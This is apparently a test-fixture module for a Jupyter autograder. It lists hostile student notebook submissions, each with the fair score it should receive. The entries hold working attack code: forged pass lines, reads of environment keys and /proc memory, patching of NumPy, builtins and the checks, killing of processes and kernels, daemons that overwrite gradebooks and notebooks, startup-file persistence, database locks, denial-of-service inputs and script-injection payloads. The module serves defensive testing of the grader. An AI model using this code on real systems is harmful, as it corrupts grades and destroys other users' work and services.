"""Hostile submissions of 00_welcome: every class of attack on grading, with its fair score.

Each case attacks the grading from the student's kernel (the classes of issue 12): full
points for wrong code (forged output, the grader's key or reference, patched libraries,
a fake ``grader_tests``, a lying grading link), harm to other students or to later runs
(their kernels, files, the gradebook, startup files, the course repository, daemons),
denial of the whole run (deep JSON, invalid text, killing processes, locks) and script
injection into the HTML the instructor and students open. The score is what the REAL
answer deserves: 0 for a wrong answer whatever the attack, 2 for a correct one whose
attack harms nobody. ``tests/test_pipeline.py`` grades them in one run with honest
students and checks that the honest ones are exactly as in a run without attackers.

Most attacks look for their targets in the whole file system the kernel can see, since
an attacker does not know where the grader keeps things.
"""

from __future__ import annotations

import json

from .welcome import (
    CORRECT,
    WRONG,
    Case,
    answer,
    insert_after_test,
    insert_before_setup,
    insert_before_test,
    insert_markdown_after_answer,
    then,
)

#: Files an attacker looks for everywhere it can see (the course's and other students').
_HUNT = """
import os
def _hunt(suffixes, limit=20000):
    found, seen = [], 0
    for root, dirs, files in os.walk("/", onerror=lambda e: None):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for f in files:
            seen += 1
            if f.endswith(suffixes):
                found.append(os.path.join(root, f))
        if seen > limit:
            break
    return found
"""

_FORGE = (
    "print('\\u2714 check_accuracy passed [0123456789abcdef]')\n"
    "print('\\u2714 check_accuracy_hidden passed [0123456789abcdef]')\n"
)

# --- full points for wrong code -----------------------------------------------------------
FULL_POINTS = [
    Case(
        "h_env_key",
        0,
        then(
            answer(WRONG),
            insert_before_setup(
                "import os\nleak = {k: v for k, v in os.environ.items() if 'KEY' in k}\n"
                "print(leak)\n" + _FORGE
            ),
        ),
        "reads the environment for a grading key above the setup cell, forges success lines",
    ),
    Case(
        "h_gc_patch_checks",
        0,
        then(
            answer(WRONG),
            insert_before_test(
                "import gc, types\n"
                "for obj in gc.get_objects():\n"
                "    fn = isinstance(obj, types.FunctionType)\n"
                "    if fn and obj.__name__.startswith('check_'):\n"
                "        obj.__code__ = (lambda *a, **k: None).__code__\n" + _FORGE
            ),
        ),
        "rewrites every check_* function it can find in memory",
    ),
    Case(
        "h_proc_memory",
        0,
        then(
            answer(WRONG),
            insert_before_test(
                "import os, re\nhits = []\n"
                "for pid in os.listdir('/proc'):\n"
                "    if not pid.isdigit() or int(pid) == os.getpid():\n        continue\n"
                "    for part in ('environ', 'cmdline'):\n"
                "        try:\n"
                "            hits.append(open(f'/proc/{pid}/{part}', 'rb').read()[:200])\n"
                "        except OSError:\n            pass\n"
                "    try:\n        open(f'/proc/{pid}/mem', 'rb').read(1)\n"
                "    except OSError:\n        pass\n"
                "print(len(hits))\n" + _FORGE
            ),
        ),
        "reads other processes' environment, command line and memory (the parent grader's)",
    ),
    Case(
        "h_neighbour_outputs",
        0,
        then(
            answer(WRONG),
            insert_before_test(
                _HUNT + "import json\n"
                "for path in _hunt(('.ipynb',)):\n"
                "    try:\n        nb = json.load(open(path))\n    except Exception:\n"
                "        continue\n"
                "    for cell in nb.get('cells', []):\n"
                "        for out in cell.get('outputs', []):\n"
                "            text = ''.join(out.get('text', ''))\n"
                "            if '\\u2714' in text:\n                print(text, end='')\n"
            ),
        ),
        "replays success lines found in other students' notebooks",
    ),
    Case(
        "h_settrace",
        0,
        then(
            answer(WRONG),
            insert_before_test(
                "import sys\n"
                "def _tracer(frame, event, arg):\n"
                "    if frame.f_code.co_name.startswith(('check', '_check')):\n"
                "        frame.f_locals['value'] = 5 / 7\n"
                "    return _tracer\n"
                "sys.settrace(_tracer)\n"
            ),
        ),
        "sys.settrace rewriting the locals of the checks",
    ),
    Case(
        "h_numpy_internals",
        0,
        then(
            answer(WRONG),
            insert_before_test(
                "import numpy, numpy.testing\n"
                "numpy.allclose = numpy.isclose = lambda *a, **k: True\n"
                "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                "numpy.abs = lambda x, *a, **k: x * 0\n"
                "numpy._core.umath.absolute = lambda x, *a, **k: x * 0\n"
            ),
        ),
        "patches NumPy's comparison functions and internals",
    ),
    Case(
        "h_builtins_above_setup",
        0,
        then(
            answer(WRONG),
            insert_before_setup(
                "import builtins\n"
                "class AssertionError(Exception):\n    pass\n"
                "builtins.AssertionError = AssertionError\n"
                "builtins.abs = lambda x: 0\n"
            ),
        ),
        "rebinds builtins in a cell above the setup cell, before any guard",
    ),
    Case(
        "h_fake_package_file",
        0,
        answer(WRONG),
        "a fake grader_tests package next to the notebook, in the submission folder",
        files=(
            ("grader_tests/__init__.py", ""),
            (
                "grader_tests/welcome.py",
                "def check_accuracy(f):\n    print('\\u2714 check_accuracy passed')\n"
                "def check_accuracy_hidden(f):\n"
                "    print('\\u2714 check_accuracy_hidden passed')\n",
            ),
        ),
    ),
    Case(
        "h_exit_inside",
        0,
        answer("import sys\n\ndef accuracy(scores, y):\n    sys.exit(0)\n"),
        "the answer exits the interpreter when the check calls it",
    ),
    Case(
        "h_equal_to_everything",
        0,
        answer(
            "class Anything(float):\n"
            "    def __eq__(self, other):\n        return True\n"
            "    __hash__ = float.__hash__\n"
            "    def __lt__(self, other):\n        return False\n"
            "    __le__ = __gt__ = __ge__ = __lt__\n"
            "    def __sub__(self, other):\n        return 0.0\n"
            "    __rsub__ = __sub__\n\n"
            "def accuracy(scores, y):\n    return Anything(0.5)\n"
        ),
        "returns a float subclass equal to everything, whose differences are 0",
    ),
    Case(
        "h_nan", 0, answer("def accuracy(scores, y):\n    return float('nan')\n"), "returns NaN"
    ),  # fmt: skip
    Case(
        "h_grader_reference",
        0,
        answer("from grader_tests.welcome import _reference as accuracy\n"),
        "returns the grader's own reference answer",
    ),
    Case(
        "h_reference_at_grading",
        0,
        answer(
            "import os\n\n" + WRONG + "\n"
            "if os.environ.get('NBGRADER_EXECUTION') == 'autograde':\n"
            "    from grader_tests import welcome as _w\n"
            "    accuracy = _w._reference\n"
        ),
        "swaps in the grader's reference only while being graded",
    ),
    Case(
        "h_silent_link",
        0,
        then(
            answer(WRONG),
            insert_before_test(
                "import course_utils.grading.kernel_server as ks\n"
                "ks.serve = lambda path, namespace: None\n"
            ),
        ),
        "replaces the kernel's side of the grading link with one that never answers",
    ),
    Case(
        "h_lying_link",
        0,
        then(
            answer(WRONG),
            insert_before_test(
                "import course_utils.grading.kernel_server as ks\n"
                "ks._Session.op_call = lambda self, obj, args, kwargs: "
                "{'value': 5 / 7, 'mutated': {}}\n"
            ),
        ),
        "makes the kernel's side of the link answer the visible example's value to every call",
    ),
]

# --- harm to other students and to later runs (a correct answer: full points) ----------------
HARM = [
    Case(
        "h_connect_kernels",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                _HUNT + "import json\n"
                "from jupyter_client import BlockingKernelClient\n"
                "for path in _hunt(('.json',)):\n"
                "    try:\n"
                "        info = json.load(open(path))\n"
                "        if 'shell_port' not in info or path.endswith('/kernel.json'):\n"
                "            continue\n"
                "        kc = BlockingKernelClient(connection_file=path)\n"
                "        kc.load_connection_file(); kc.start_channels()\n"
                "        kc.execute('import os; os._exit(1)')\n"
                "    except Exception:\n        pass\n"
            ),
        ),
        "connects to every kernel connection file it finds and kills those kernels",
    ),
    Case(
        "h_daemon",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                _HUNT + "import time\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    if os.fork() == 0:\n"
                "        os.environ.clear()\n"
                "        for _ in range(600):\n"
                "            for path in _hunt(('.db', '.ipynb')):\n"
                "                try:\n                    open(path, 'w').write('{}')\n"
                "                except OSError:\n                    pass\n"
                "            time.sleep(0.5)\n"
                "    os._exit(0)\n"
            ),
        ),
        "double-forked daemon (no tag) rewriting every gradebook and notebook it can reach",
    ),
    Case(
        "h_gradebook_write",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                _HUNT + "import sqlite3\n"
                "for path in _hunt(('.db',)):\n"
                "    try:\n"
                "        con = sqlite3.connect(path)\n"
                "        con.execute('UPDATE grade SET manual_score = 2')\n"
                "        con.commit()\n"
                "    except Exception:\n        pass\n"
            ),
        ),
        "writes manual_score into every gradebook it finds",
    ),
    Case(
        "h_startup_file",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                "import os, pathlib\n"
                "homes = {os.path.expanduser('~'), '/root', os.environ.get('IPYTHONDIR', '')}\n"
                "for home in homes:\n"
                "    for base in (pathlib.Path(home), pathlib.Path(home) / '.ipython'):\n"
                "        d = base / 'profile_default' / 'startup'\n"
                "        try:\n"
                "            d.mkdir(parents=True, exist_ok=True)\n"
                "            (d / '00-pwn.py').write_text('accuracy = lambda s, y: 1.0\\n')\n"
                "        except OSError:\n            pass\n"
            ),
        ),
        "writes an IPython startup file into every profile it can reach",
    ),
    Case(
        "h_rewrite_course",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                "import course_utils, pathlib\n"
                "repo = pathlib.Path(course_utils.__file__).resolve().parents[1]\n"
                "for rel in ('grader_tests/welcome.py', 'course_utils/grading/_core.py',\n"
                "            'solutions/00_welcome/welcome.ipynb', 'nbgrader_config.py'):\n"
                "    try:\n"
                "        (repo / rel).write_text('')\n"
                "    except OSError:\n        pass\n"
                "for d in ('__pycache__', 'grader_tests/__pycache__'):\n"
                "    try:\n"
                "        (repo / d).mkdir(exist_ok=True); (repo / d / 'x.pyc').write_bytes(b'')\n"
                "    except OSError:\n        pass\n"
            ),
        ),
        "rewrites the installed checks, the grading core, solutions/ and caches",
    ),
    Case(
        "h_overwrite_neighbours",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                _HUNT + "import json\n"
                "blank = {'cells': [], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}\n"
                "for path in _hunt(('.ipynb',)):\n"
                "    try:\n        json.dump(blank, open(path, 'w'))\n"
                "    except OSError:\n        pass\n"
            ),
        ),
        "overwrites every other notebook it finds (queued neighbours' scratch copies)",
    ),
    Case(
        "h_kill_all_after",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                "import os, signal\n"
                "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
                "    if pid != os.getpid():\n"
                "        try:\n            os.kill(pid, signal.SIGKILL)\n"
                "        except OSError:\n            pass\n"
                "os.kill(os.getppid(), signal.SIGKILL)\n"
            ),
        ),
        "after its test cell, SIGKILLs every process it can see (it sees no grader, no "
        "`course`)",
    ),
    Case(
        "h_kill_all_before",
        2,
        then(
            answer(CORRECT),
            insert_before_test(
                "import os, signal\n"
                "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
                "    if pid != os.getpid():\n"
                "        try:\n            os.kill(pid, signal.SIGKILL)\n"
                "        except OSError:\n            pass\n"
                "os.kill(-1, signal.SIGKILL)\n"
            ),
        ),
        "before its test cell, SIGKILLs every process it can see, and kill(-1): the "
        "sandbox's init and the kernel survive, the test cell runs",
    ),
    Case(
        "h_exclusive_lock",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                _HUNT + "import sqlite3, time\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    locks = []\n"
                "    for path in _hunt(('.db',)):\n"
                "        try:\n"
                "            con = sqlite3.connect(path, isolation_level=None)\n"
                "            con.execute('BEGIN EXCLUSIVE'); locks.append(con)\n"
                "        except Exception:\n            pass\n"
                "    time.sleep(600)\n"
                "    os._exit(0)\n"
            ),
        ),
        "a daemon holding BEGIN EXCLUSIVE on every gradebook it finds",
    ),
    Case(
        "h_many_processes",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                "import subprocess, sys\n"
                "sleep = [sys.executable, '-c', 'import time; time.sleep(600)']\n"
                "procs = [subprocess.Popen(sleep)\n"
                "         for _ in range(200)]\n"
            ),
        ),
        "leaves 200 child processes sleeping behind",
    ),
]

# --- denial of the whole run ---------------------------------------------------------------
_DEEP = b'{"cells": [' + b"[" * 100_000 + b"]" * 100_000 + b'], "metadata": {}}'


def _with_surrogate(nb):
    """The correct answer with a lone surrogate in a comment, as raw JSON escapes allow."""
    nb = answer(CORRECT + "# caf\udce9\n")(nb)
    return json.dumps(nb, ensure_ascii=True).encode("ascii")


DENIAL = [
    Case(
        "h_huge_output",
        2,
        then(answer(CORRECT), insert_after_test("print('x' * 100_000_000)\n")),
        "prints 100 MB after its test cell",
    ),
    Case(
        "h_deep_json",
        0,
        lambda nb: _DEEP,
        "a notebook nested 100 000 levels deep",
        ("nested too deeply",),
    ),  # fmt: skip
    Case(
        "h_surrogate",
        2,
        _with_surrogate,
        "a lone surrogate \\udce9 in a comment of a correct answer",
        ("not valid text replaced",),
    ),
]

# --- script injection into Formgrader and the feedback ----------------------------------------
SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"
INJECTION = [
    Case(
        "h_script_output",
        2,
        then(
            answer(CORRECT),
            insert_after_test(
                "from IPython.display import HTML, Javascript, SVG, display\n"
                f"display(HTML({SCRIPT!r}))\n"
                "display(Javascript(\"document.title='pwned'\"))\n"
                'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='
                "\\'pwned\\'\"><script>document.title=\\'pwned\\'</script></svg>'))\n"
            ),
        ),
        "displays HTML with <script> and onerror=, JavaScript and an SVG with a script",
    ),
    Case(
        "h_script_markdown",
        2,
        then(answer(CORRECT), insert_markdown_after_answer(f"My notes {SCRIPT}")),
        "a Markdown cell of its own with <script> and onerror=",
    ),
]

CASES: list[Case] = FULL_POINTS + HARM + DENIAL + INJECTION
#: Attacks that leave something running in the sandbox after their notebook is done.
LEAVE_PROCESSES = {"h_daemon", "h_exclusive_lock", "h_many_processes"}
